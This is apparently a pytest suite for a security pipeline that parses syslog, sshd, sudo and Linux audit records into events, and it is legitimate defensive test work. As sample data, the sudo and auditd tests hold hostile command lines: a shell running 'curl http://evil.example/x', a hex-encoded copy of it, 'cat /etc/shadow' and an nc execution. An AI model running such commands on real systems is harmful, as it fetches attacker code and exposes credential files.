"""Syslog of both RFCs, and what sshd, sudo and the audit system say in it."""

from __future__ import annotations

import time
from datetime import datetime

import pytest

from pipeline.settings import TopicSettings
from schemas.event import Source
from tests.builders import batch_of
from tests.parsing import NOW_MS, READER, event, reader, reason

TIME_S = NOW_MS // 1000 * 1000


def linux(service: str) -> Source:
    return Source("linux", "", service, 0)


# --- the frame


def test_rfc_5424_is_taken_apart() -> None:
    found = event(b'<86>1 2026-10-11T17:14:15.003Z srv01.bank.example app 99 ID47 [x@1 iut="3"] \xef\xbb\xbfan event')
    assert found.format.name == "syslog"
    assert found.format.form == "text"
    assert found.fields == {
        "msgid": "ID47",
        "iut": "3",
        "message": "an event",
        "hostname": "srv01.bank.example",
        "program": "app",
        "pid": "99",
    }
    assert (found.host, found.process, found.time_ms) == ("srv01.bank.example", "app", NOW_MS)


def test_structured_data_with_escapes_makes_the_event_opaque() -> None:
    """What a rule looks for does not stand in the bytes, so no literal may be looked for there."""
    found = event(b'<86>1 - host app - - [x@1 q="a\\"b\\]" r="1"][y@2 z="2"] m')
    assert found.fields["q"] == 'a"b]'
    assert (found.fields["r"], found.fields["z"], found.fields["message"]) == ("1", "2", "m")
    assert found.format.form == "opaque"


@pytest.mark.parametrize(
    "line",
    [
        b"<86>Oct 11 22:14:15 srv01 app[99]: hello",
        b"Oct 11 22:14:15 srv01 app[99]: hello",
        b"<86>2026-10-11T22:14:15+05:00 srv01 app[99]: hello",
        b"<86>Oct 11 22:14:15 srv01 app[99]: hello\n",
        b"\xef\xbb\xbf<86>Oct 11 22:14:15 srv01 app[99]: hello\x00",
    ],
)
def test_rfc_3164_is_read_with_and_without_priority(line: bytes) -> None:
    found = event(line)
    assert found.fields == {"message": "hello", "hostname": "srv01", "program": "app", "pid": "99"}
    assert found.time_ms == TIME_S


@pytest.mark.parametrize(
    "line",
    [
        "<13>Oct 11 22:14:15.003 srv01 app[99]: hello",
        "<13>Oct 11 22:14:15.003456 srv01 app[99]: hello",
        "<13>Oct 11 2026 22:14:15.003 srv01 app[99]: hello",
        "<13>Oct 11 22:14:15.003 2026 srv01 app[99]: hello",
        "<13>2026-10-11T22:14:15.003+05:00 srv01 app[99]: hello",
        "<13>2026-10-11T17:14:15.003Z srv01 app[99]: hello",
        "<13>2026-10-11 22:14:15.003 srv01 app[99]: hello",
        "2026-10-11T22:14:15.003456+05:00 srv01 app[99]: hello",
        "<13>1791738855.003 srv01 app[99]: hello",
        "<13>1 2026-10-11T22:14:15.003+05:00 srv01 app 99 - - hello",
        "<13>1 2026-10-11T17:14:15.003456Z srv01 app 99 - - \ufeffhello",
        "52 <13>Oct 11 22:14:15.003 srv01 app[99]: hello",
        "61 <13>1 2026-10-11T17:14:15.003Z srv01 app 99 - - hello",
    ],
)
def test_one_message_is_one_event_in_every_stamp_and_framing(line: str) -> None:
    found = event(line.encode())
    assert found.fields == {"message": "hello", "hostname": "srv01", "program": "app", "pid": "99"}
    assert (found.time_ms, found.host, found.process) == (NOW_MS, "srv01", "app")


@pytest.mark.parametrize(
    ("line", "host", "program", "message"),
    [
        ("<13>Oct 11 22:14:15 app[99]: hello", "", "app", "hello"),
        ("<13>Oct 11 22:14:15 app: hello", "", "app", "hello"),
        ("<13>Oct 11 22:14:15 srv01 hello world", "srv01", "", "hello world"),
        ("<13>Oct 11 22:14:15 10.0.0.5 app: hello", "10.0.0.5", "app", "hello"),
        ("<13>Oct 11 22:14:15 2001:db8::1 app: hello", "2001:db8::1", "app", "hello"),
        ("<13>Oct 11 22:14:15 srv01/relay app: hello", "srv01/relay", "app", "hello"),
        ("<13>Oct  1 22:14:15 srv01 app: hello", "srv01", "app", "hello"),
        ("<13>Oct 11 22:14:15 srv01 app: first\n  second\n\tthird", "srv01", "app", "first\n  second\n\tthird"),
        ("<13>Oct 11 22:14:15 srv01 app:", "srv01", "app", ""),
        ("<13>Oct 11 22:14:15 srv01", "srv01", "", ""),
        ("<13>hello world", "", "", "hello world"),
        ("<13>1 - - - - - - hello", "", "", "hello"),
        ("<13>1 2026-10-11T17:14:15Z srv01 app - - -", "srv01", "app", ""),
    ],
)
def test_what_is_missing_in_a_line_is_missing_in_the_event(line: str, host: str, program: str, message: str) -> None:
    found = event(line.encode())
    assert (found.host, found.process, found.fields["message"]) == (host, program, message)


SSHD = "Failed password for invalid user oracle from 203.0.113.9 port 4242 ssh2"


@pytest.mark.parametrize(
    "line",
    [
        f"<38>Oct 11 22:14:15 srv01 sshd[7]: {SSHD}",
        f"Oct 11 22:14:15 srv01 sshd[7]: {SSHD}",
        f"<38>2026-10-11T22:14:15+05:00 srv01 sshd[7]: {SSHD}",
        f"2026-10-11T22:14:15+05:00 srv01 sshd[7]: {SSHD}",
        f"<38>1 2026-10-11T17:14:15Z srv01 sshd 7 - - {SSHD}",
        f"99 <38>1 2026-10-11T17:14:15Z srv01 sshd 7 - - {SSHD}",
    ],
)
def test_sshd_by_rsyslog_syslog_ng_and_a_file_is_the_same_event(line: str) -> None:
    found = event(line.encode())
    assert found.fields == {
        "message": SSHD, "hostname": "srv01", "program": "sshd", "pid": "7", "outcome": "Failed", "method": "password",
        "user": "oracle", "src_ip": "203.0.113.9", "src_port": "4242",
    }  # fmt: skip
    assert (found.source, found.time_ms) == (linux("sshd"), TIME_S)
    assert (found.host, found.user, found.src_ip, found.process) == ("srv01", "oracle", "203.0.113.9", "sshd")
    assert found.observables == (("ipv4", "203.0.113.9"),)


def kafka(text: str) -> int:
    return round(datetime.fromisoformat(text).timestamp() * 1000)


@pytest.mark.parametrize(
    ("stamp", "received", "meant"),
    [
        ("Dec 31 23:59:58", "2027-01-01T00:00:30+05:00", "2026-12-31T23:59:58+05:00"),
        ("Jan  1 00:00:02", "2026-12-31T23:59:58+05:00", "2027-01-01T00:00:02+05:00"),
        ("Feb 29 12:00:00", "2028-03-01T09:00:00+05:00", "2028-02-29T12:00:00+05:00"),
        ("Feb 29 23:59:59.5", "2028-02-29T23:59:59+05:00", "2028-02-29T23:59:59.5+05:00"),
    ],
)
def test_the_year_is_that_of_kafkas_time_over_its_turn_and_on_leap_days(stamp: str, received: str, meant: str) -> None:
    found = event(f"<13>{stamp} srv01 app: x".encode(), kafka(received))
    assert (found.time_ms, found.doubtful) == (kafka(meant), False)


def test_a_leap_day_that_is_none_gives_way_to_kafkas_time() -> None:
    found = event(b"<13>Feb 29 12:00:00 srv01 app: x", kafka("2026-03-01T09:00:00+05:00"))
    assert (found.time_ms, found.doubtful) == (kafka("2026-03-01T09:00:00+05:00"), True)


def test_a_yearless_time_is_in_the_zone_of_the_settings() -> None:
    utc = reader(timezone="UTC")
    assert event(b"<86>Oct 11 17:14:15 srv01 app: hello", by=utc).time_ms == TIME_S


def test_a_message_without_time_and_host_is_an_event_at_kafkas_time() -> None:
    found = event(b"<13>something happened")
    assert found.fields == {"message": "something happened"}
    assert (found.time_ms, found.doubtful) == (NOW_MS, True)


def test_bytes_that_are_no_utf8_do_not_hide_a_line() -> None:
    found = event(b"<86>Oct 11 22:14:15 srv01 sshd[1]: Invalid user \xcf\xf0 from 203.0.113.9 port 22")
    assert found.src_ip == "203.0.113.9"
    assert "\ufffd" in found.fields["message"]


@pytest.mark.parametrize("line", [b"hello", b"<999999>hello", b"<>hello", b"Octopus", b"2026", b"\x1f\x8b\x08\x00"])
def test_other_text_is_no_format(line: bytes) -> None:
    assert reason(line) == "format"


@pytest.mark.parametrize(
    ("line", "service"),
    [
        (b"<38>Oct 11 22:14:15 h sshd[1]: x", "sshd"),
        (b"<38>Oct 11 22:14:15 h sshd-session[1]: x", "sshd"),
        (b"<86>Oct 11 22:14:15 h sudo: x", "sudo"),
        (b"<38>Oct 11 22:14:15 h pkexec[1]: x", "auth"),
        (b"<86>Oct 11 22:14:15 h other[1]: x", "auth"),
        (b"<78>Oct 11 22:14:15 h CRON[1]: x", "cron"),
        (b"<13>Oct 11 22:14:15 h /usr/sbin/vsftpd[1]: x", "vsftpd"),
        (b"<13>Oct 11 22:14:15 h other[1]: x", "syslog"),
        (b"<13>x", "syslog"),
    ],
)
def test_the_service_is_the_programs_else_the_facilitys(line: bytes, service: str) -> None:
    assert event(line).source == linux(service)


def test_a_topic_of_another_product_keeps_its_log_source() -> None:
    cisco = reader(TopicSettings(topic="raw.*", product="cisco", service="aaa"))
    assert event(b"<189>Oct 11 22:14:15 sw1 1234: %SYS-5-CONFIG_I", by=cisco).source == Source("cisco", "", "aaa", 0)


# --- sshd


@pytest.mark.parametrize(
    ("message", "user", "address"),
    [
        ("Failed password for root from 203.0.113.9 port 4242 ssh2", "root", "203.0.113.9"),
        ("Failed password for invalid user oracle from 203.0.113.9 port 4242 ssh2", "oracle", "203.0.113.9"),
        ("Accepted publickey for dana from 2001:db8::1 port 4242 ssh2: ED25519 SHA256:x", "dana", "2001:db8::1"),
        ("Invalid user admin from 203.0.113.9 port 4242", "admin", "203.0.113.9"),
        ("Invalid user  from 203.0.113.9 port 4242", "", "203.0.113.9"),
        ("Connection closed by 203.0.113.9 port 4242 [preauth]", "", "203.0.113.9"),
        ("Connection closed by authenticating user root 203.0.113.9 port 4242 [preauth]", "root", "203.0.113.9"),
        ("Disconnected from invalid user pi 203.0.113.9 port 4242 [preauth]", "pi", "203.0.113.9"),
        ("Received disconnect from 203.0.113.9 port 4242:11: Bye Bye", "", "203.0.113.9"),
        ("pam_unix(sshd:auth): authentication failure; uid=0 tty=ssh rhost=203.0.113.9  user=root",
         "root", "203.0.113.9"),
        ("Server listening on 0.0.0.0 port 22.", "", ""),
    ],
)  # fmt: skip
def test_sshd_names_user_and_address(message: str, user: str, address: str) -> None:
    found = event(f"<38>Oct 11 22:14:15 srv01 sshd[7]: {message}".encode())
    assert (found.user, found.src_ip) == (user, address)
    assert found.fields["message"] == message


def test_a_user_name_cannot_put_the_blame_on_another_address() -> None:
    line = (
        b"<38>Oct 11 22:14:15 h sshd[7]: Failed password for invalid user x from 192.0.2.1 from 203.0.113.9 port 1 ssh2"
    )
    found = event(line)
    assert (found.user, found.src_ip) == ("x from 192.0.2.1", "203.0.113.9")


# --- sudo


def test_sudo_gives_its_names_and_the_command() -> None:
    message = "dana : TTY=pts/0 ; PWD=/home/dana ; USER=root ; COMMAND=/bin/sh -c 'id ; curl http://evil.example/x'"
    found = event(f"<86>Oct 11 22:14:15 srv01 sudo[7]:     {message}".encode())
    assert {name: found.fields[name] for name in ("TTY", "PWD", "USER")} == {
        "TTY": "pts/0",
        "PWD": "/home/dana",
        "USER": "root",
    }
    assert found.user == "dana"
    assert found.command_line == found.fields["COMMAND"] == "/bin/sh -c 'id ; curl http://evil.example/x'"
    assert ("domain", "evil.example") in found.observables


def test_sudo_refusing_is_read_too() -> None:
    found = event(
        b"<86>Oct 11 22:14:15 h sudo: eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/su"
    )
    assert (found.user, found.fields["USER"], found.command_line) == ("eve", "root", "/bin/su")


# --- the audit system

HEAD = f"msg=audit({NOW_MS // 1000}.003:24287):"


@pytest.mark.parametrize(
    "frame",
    [
        "{}",
        "node=srv01 {}",
        "<13>1 2026-10-11T17:14:10.003Z srv01 audispd - - - {}",
        "<13>Oct 11 22:14:10 srv01 audisp-syslog[9]: {}",
    ],
)
def test_an_audit_record_is_the_same_event_in_every_frame(frame: str) -> None:
    record = f'type=SYSCALL {HEAD} arch=c000003e syscall=59 success=yes a0=1 exe="/usr/bin/nc" comm="nc" key="net"'
    found = event(frame.format(record).encode())
    assert found.format.name == "auditd"
    assert found.source == linux("auditd")
    assert (found.fields["type"], found.fields["key"], found.fields["a0"]) == ("SYSCALL", "net", "1")
    assert found.fields["SYSCALL"] == "execve"
    assert (found.process, found.time_ms) == ("/usr/bin/nc", NOW_MS)


def test_hexadecimal_strings_are_decoded_and_make_the_event_opaque() -> None:
    command = b"curl http://evil.example/x".hex().upper()
    found = event(f'type=EXECVE {HEAD} argc=3 a0="bash" a1="-c" a2={command}'.encode())
    assert found.fields["a2"] == "curl http://evil.example/x"
    assert found.command_line == "bash -c curl http://evil.example/x"
    assert found.format.form == "opaque"
    assert ("url", "http://evil.example/x") in found.observables


def test_a_plain_record_stands_in_its_bytes() -> None:
    found = event(f'type=EXECVE {HEAD} argc=2 a0="cat" a1="/etc/shadow"'.encode())
    assert found.format.form == "text"
    assert found.command_line == "cat /etc/shadow"


def test_an_argument_of_a_system_call_is_a_number_and_not_decoded() -> None:
    assert event(f"type=SYSCALL {HEAD} arch=40000003 syscall=1 a0=2F62696E".encode()).fields["a0"] == "2F62696E"


def test_an_enriched_record_has_its_names() -> None:
    found = event(f'type=SYSCALL {HEAD} arch=c000003e syscall=41 auid=1000\x1dSYSCALL=socket AUID="dana"'.encode())
    assert (found.fields["SYSCALL"], found.user) == ("socket", "dana")
    assert found.format.form == "text"


def test_the_inside_of_msg_is_lifted() -> None:
    inside = 'op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 res=failed'
    found = event(f"type=USER_AUTH {HEAD} pid=1 uid=0 auid=4294967295 msg='{inside}'".encode())
    assert (found.user, found.src_ip, found.process) == ("root", "203.0.113.9", "/usr/sbin/sshd")
    assert found.fields["res"] == "failed"


def test_the_kernels_numbers_become_names() -> None:
    line = f'<4>Oct 11 22:14:15 srv01 kernel: audit: type=1400 audit({NOW_MS // 1000}.003:45): apparmor="DENIED"'
    found = event(line.encode())
    assert (found.fields["type"], found.fields["apparmor"]) == ("AVC", "DENIED")
    assert found.format.form == "opaque"
    assert found.host == "srv01"


@pytest.mark.parametrize(
    ("saddr", "address"),
    [
        ("020001BBCB0071090000000000000000", "203.0.113.9"),
        ("0A0001BB0000000020010DB800000000000000000000000100000000", "2001:db8::1"),
        ("01002F7661722F72756E", ""),
        ("02", ""),
        ("zz", ""),
    ],
)
def test_a_socket_address_is_the_other_side(saddr: str, address: str) -> None:
    assert event(f"type=SOCKADDR {HEAD} saddr={saddr}".encode()).dst_ip == address


def test_an_audit_record_without_its_head_is_no_format() -> None:
    assert reason(b"type=SYSCALL msg=audit(now): a=1") == "format"


# --- bounded cost

HOSTILE = {
    "sshd": b"<38>Oct 11 22:14:15 h sshd[7]: " + b"Connection closed by invalid user " * 30_000,
    "from": b"<38>Oct 11 22:14:15 h sshd[7]: Failed password for " + b" from a" * 150_000,
    "audit": b"type=SYSCALL msg=audit(1.000:1): " + b"a" * 1_000_000,
    "quotes": b"type=SYSCALL msg=audit(1.000:1): " + b"a={ b='" * 150_000,
    "structured": b"<38>1 - h a - - [x" + b' a="b"' * 150_000,
    "urls": b"<13>" + b"http://" * 150_000,
    "digits": b"1" * 1_000_000,
    "stamp": b"<13>" + b"Oct 11 22:14:15 " * 60_000,
    "host": b"<13>Oct 11 22:14:15 " + b"a" * 1_000_000,
    "elements": b"<38>1 - h a - - " + b"[x]" * 300_000,
    "access": b"1 " * 500_000,
    "labels": b"<13>Oct 11 22:14:15 h a: http://" + b"a." * 500_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_made_to_be_slow_is_read_in_time(name: str) -> None:
    started = time.process_time()
    reading = READER.read(batch_of(HOSTILE[name], timestamp=NOW_MS))
    assert [letter.reason for letter in reading.dead] in ([], ["format"])
    assert time.process_time() - started < 1.0
